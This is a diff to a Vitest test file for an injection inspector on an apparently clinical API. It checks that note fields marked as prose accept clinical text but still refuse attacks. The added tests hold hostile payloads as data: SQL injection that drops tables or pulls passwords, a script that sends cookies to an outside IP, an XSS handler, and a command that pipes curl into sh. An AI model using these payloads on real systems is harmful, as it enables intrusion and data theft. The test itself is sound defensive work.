@@ -1,5 +1,8 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import type { Content } from '../../../contracts/content.ts';
+import type { RouteMatch } from '../../../contracts/policy.ts';
 import type { InjectionException } from '../../../contracts/route-inspection.ts';
 import { createInjectionInspector } from '../../../inspection/injection/index.ts';
 import { type Around, FHIR_ROUTE, factsOf, form, json, matchOf, xml } from './support.ts';
@@ -168,7 +171,7 @@ describe('who reads quietly', () => {
 });
 
 describe('exceptions', () => {
-  const except = (...list: InjectionException[]) => matchOf({ mode: 'block', except: list });
+  const except = (...list: InjectionException[]) => matchOf({ mode: 'block', except: list, prose: [] });
   const both = form({ note: '`x`', other: '`x`' });
 
   it('count in their place, for their rule, and nowhere else', () => {
@@ -211,7 +214,7 @@ describe('exceptions', () => {
 
 describe('a route that only reports', () => {
   it('says so with each finding', () => {
-    expect(content(form({ q: SQL }), matchOf({ mode: 'report', except: [] }))).toMatchObject({
+    expect(content(form({ q: SQL }), matchOf({ mode: 'report', except: [], prose: [] }))).toMatchObject({
       reportOnly: true,
     });
     expect(content(form({ q: SQL }))?.reportOnly).toBeUndefined();
@@ -233,5 +236,37 @@ describe('bodies', () => {
     for (const type of ['image/png', 'application/octet-stream', 'application/dicom', 'application/pdf'])
       expect(inspector.wants(route, type), type).toBe(false);
     expect(inspector.wants({ ...route, maxBodyBytes: 0 }, 'application/json')).toBe(false);
+  });
+});
+
+describe('a place that a route calls prose', () => {
+  const prose = matchOf({ mode: 'block', except: [], prose: ['form:note', '/visits/*/note'] });
+  const LINES = readFileSync(join(import.meta.dirname, '../clinical-lines.txt'), 'utf8')
+    .split('\n')
+    .filter((line) => line !== '');
+
+  it('takes every clinical line, of which a field that is not called so refuses some', () => {
+    const refused = (match: RouteMatch) =>
+      LINES.filter((line) => content(form({ note: line }), match) !== undefined).length;
+    expect(LINES.length).toBeGreaterThan(1000);
+    expect(refused(prose)).toBe(0);
+    expect(refused(matchOf())).toBeGreaterThan(0);
+    expect(content(form({ note: 'Zoë’s “kept” & <i> 3%' }), prose)).toBeUndefined();
+  });
+
+  it.each([
+    ['a statement', "x'; DROP TABLE patient_data; --"],
+    ['a query put behind', "' UNION SELECT username, password FROM users_secure -- "],
+    ['a script', '<script>fetch("https://198.51.100.7/?"+document.cookie)</script>'],
+    ['a handler', '<img src=x onerror=alert(1)>'],
+    ['a command', '; curl http://198.51.100.7/x | sh'],
+  ])('refuses %s all the same', (_what, text) => {
+    expect(content(form({ note: text }), prose)).toMatchObject({ place: 'form:note' });
+    expect(content(json({ visits: [{ note: text }] }), prose)).toMatchObject({ place: '/visits/0/note' });
+  });
+
+  it('changes nothing about other places', () => {
+    expect(content(form({ subject: SQL }), prose)).toMatchObject({ place: 'form:subject' });
+    expect(content(json({ note: SQL }), prose)).toMatchObject({ place: '/note' });
   });
 });
